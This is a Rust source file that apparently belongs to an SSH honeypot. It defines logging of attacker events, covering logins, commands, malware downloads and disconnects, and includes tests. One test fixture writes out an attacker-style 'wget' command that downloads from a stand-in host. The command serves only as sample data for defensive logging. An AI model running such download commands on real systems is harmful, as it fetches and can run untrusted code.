//! Honeypot Events
//!
//! Discrete, fire-and-forget records of what an attacker did. Sinks must not
//! block; emitting happens inline on the session task.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use chrono::{DateTime, Utc};
use serde::Serialize;
use spinning_top::Spinlock;

use crate::intel::IntelReport;
use crate::session::{CloseReason, SessionId};

/// Stored passwords are cut to this many characters
pub const MAX_PASSWORD_CHARS: usize = 100;
/// Command output in events is cut to this many characters
pub const MAX_OUTPUT_CHARS: usize = 500;

/// Tracing target for event lines
pub const EVENT_TARGET: &str = "mirage::events";

// ============================================================================
// Event Model
// ============================================================================

/// One observed event with its session envelope
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct HoneypotEvent {
    pub timestamp: DateTime<Utc>,
    pub session: SessionId,
    pub peer_ip: IpAddr,
    pub peer_port: u16,
    #[serde(flatten)]
    pub kind: EventKind,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub intel: Option<IntelReport>,
}

/// Event-specific payload, serialized with an `event` tag
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "event", rename_all = "kebab-case")]
pub enum EventKind {
    Connection,
    Authentication {
        method: String,
        username: String,
        #[serde(skip_serializing_if = "Option::is_none")]
        password: Option<String>,
        accepted: bool,
    },
    Command {
        input: String,
        output: String,
        status: i32,
    },
    MalwareDownload {
        url: String,
        command: String,
    },
    Disconnect {
        duration_secs: f64,
        command_count: u64,
        reason: CloseReason,
    },
}

impl EventKind {
    pub fn authentication(method: &str, username: &str, password: Option<&str>) -> Self {
        EventKind::Authentication {
            method: method.to_string(),
            username: username.to_string(),
            password: password.map(|p| truncate_chars(p, MAX_PASSWORD_CHARS)),
            accepted: true,
        }
    }

    pub fn command(input: &str, output: &str, status: i32) -> Self {
        EventKind::Command {
            input: input.to_string(),
            output: truncate_chars(output, MAX_OUTPUT_CHARS),
            status,
        }
    }

    /// Short label used in log lines
    pub fn name(&self) -> &'static str {
        match self {
            EventKind::Connection => "connection",
            EventKind::Authentication { .. } => "authentication",
            EventKind::Command { .. } => "command",
            EventKind::MalwareDownload { .. } => "malware-download",
            EventKind::Disconnect { .. } => "disconnect",
        }
    }
}

/// Cut `text` to at most `max` characters on a char boundary
pub fn truncate_chars(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        Some((idx, _)) => text[..idx].to_string(),
        None => text.to_string(),
    }
}

// ============================================================================
// Sinks
// ============================================================================

/// Receives events; implementations must return promptly and swallow failures
pub trait EventSink: Send + Sync {
    fn record(&self, event: HoneypotEvent);
}

/// Writes each event as one JSON line under [`EVENT_TARGET`]
pub struct TracingSink;

impl EventSink for TracingSink {
    fn record(&self, event: HoneypotEvent) {
        let line = match serde_json::to_string(&event) {
            Ok(line) => line,
            Err(e) => {
                tracing::error!(error = %e, session = %event.session, "failed to encode event");
                return;
            }
        };
        match event.kind {
            EventKind::MalwareDownload { .. } => {
                tracing::warn!(target: EVENT_TARGET, "{}", line)
            }
            _ => tracing::info!(target: EVENT_TARGET, "{}", line),
        }
    }
}

/// Keeps every event in memory
#[derive(Default)]
pub struct MemorySink {
    events: Spinlock<Vec<HoneypotEvent>>,
}

impl MemorySink {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn events(&self) -> Vec<HoneypotEvent> {
        self.events.lock().clone()
    }

    /// Number of recorded events with the given [`EventKind::name`]
    pub fn count(&self, name: &str) -> usize {
        self.events.lock().iter().filter(|e| e.kind.name() == name).count()
    }

    pub fn clear(&self) {
        self.events.lock().clear();
    }
}

impl EventSink for MemorySink {
    fn record(&self, event: HoneypotEvent) {
        self.events.lock().push(event);
    }
}

/// Fans out to several sinks
pub struct MultiSink(pub Vec<Arc<dyn EventSink>>);

impl EventSink for MultiSink {
    fn record(&self, event: HoneypotEvent) {
        for sink in &self.0 {
            sink.record(event.clone());
        }
    }
}

// ============================================================================
// Per-Session Emitter
// ============================================================================

/// Stamps events with a session's envelope and the latest intel
#[derive(Clone)]
pub struct EventContext {
    session: SessionId,
    peer: SocketAddr,
    sink: Arc<dyn EventSink>,
    intel: Arc<Spinlock<Option<IntelReport>>>,
}

impl EventContext {
    pub fn new(session: SessionId, peer: SocketAddr, sink: Arc<dyn EventSink>) -> Self {
        Self {
            session,
            peer,
            sink,
            intel: Arc::new(Spinlock::new(None)),
        }
    }

    pub fn session(&self) -> SessionId {
        self.session
    }

    pub fn peer(&self) -> SocketAddr {
        self.peer
    }

    /// Slot a detached intel lookup fills in when it completes
    pub fn intel_slot(&self) -> Arc<Spinlock<Option<IntelReport>>> {
        self.intel.clone()
    }

    pub fn emit(&self, kind: EventKind) {
        let intel = self.intel.lock().clone();
        self.sink.record(HoneypotEvent {
            timestamp: Utc::now(),
            session: self.session,
            peer_ip: self.peer.ip(),
            peer_port: self.peer.port(),
            kind,
            intel,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn context(sink: Arc<MemorySink>) -> EventContext {
        EventContext::new(SessionId::from_raw(7), "203.0.113.9:40022".parse().unwrap(), sink)
    }

    #[test]
    fn password_is_truncated() {
        let long = "p".repeat(300);
        match EventKind::authentication("password", "root", Some(&long)) {
            EventKind::Authentication { password, accepted, .. } => {
                assert_eq!(password.unwrap().len(), MAX_PASSWORD_CHARS);
                assert!(accepted);
            }
            other => panic!("unexpected {:?}", other),
        }
    }

    #[test]
    fn truncation_respects_char_boundaries() {
        assert_eq!(truncate_chars("héllo", 2), "hé");
        assert_eq!(truncate_chars("hi", 10), "hi");
    }

    #[test]
    fn json_shape() {
        let sink = Arc::new(MemorySink::new());
        let ctx = context(sink.clone());
        ctx.emit(EventKind::MalwareDownload {
            url: "http://x.test/a".into(),
            command: "wget http://x.test/a".into(),
        });
        let value = serde_json::to_value(&sink.events()[0]).unwrap();
        assert_eq!(value["event"], "malware-download");
        assert_eq!(value["url"], "http://x.test/a");
        assert_eq!(value["session"], 7);
        assert_eq!(value["peer_ip"], "203.0.113.9");
        assert_eq!(value["peer_port"], 40022);
        assert!(value.get("intel").is_none());
    }

    #[test]
    fn intel_attaches_once_available() {
        let sink = Arc::new(MemorySink::new());
        let ctx = context(sink.clone());
        ctx.emit(EventKind::Connection);
        *ctx.intel_slot().lock() = Some(IntelReport {
            tags: vec!["public".into()],
            ..IntelReport::default()
        });
        ctx.emit(EventKind::command("id", "uid=0(root)", 0));

        let events = sink.events();
        assert!(events[0].intel.is_none());
        assert_eq!(events[1].intel.as_ref().unwrap().tags, vec!["public"]);
        assert_eq!(sink.count("command"), 1);
    }
}
